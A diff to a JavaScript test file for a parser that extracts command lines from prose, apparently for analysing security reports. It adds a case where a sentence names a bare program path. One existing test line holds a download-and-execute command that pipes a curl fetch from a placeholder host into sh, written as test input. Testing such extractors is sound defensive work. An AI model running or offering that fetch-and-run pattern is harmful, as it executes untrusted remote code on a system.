@@ -470,4 +470,12 @@ describe('extractCmdlines', () => {
     expect(values('"curl -s http://x.test/a | sh"')).toEqual(['curl -s http://x.test/a | sh']);
     expect(values('"C:\\Program Files\\Acme\\acme.exe" -k run')).toEqual(['"C:\\Program Files\\Acme\\acme.exe" -k run']);
   });
+
+  it('reads a program path a sentence calls a command line, even without arguments', () => {
+    expect(values('Here the following command line initiated the process: C:\\Users\\bob\\Downloads\\Host.exe Of note is that.')).toEqual([
+      'C:\\Users\\bob\\Downloads\\Host.exe',
+    ]);
+    expect(values('The command line was: %TEMP%\\a.exe.')).toEqual(['%TEMP%\\a.exe']);
+    expect(values('The command line tool C:\\Tools\\x.exe is handy.')).toEqual([]);
+  });
 });
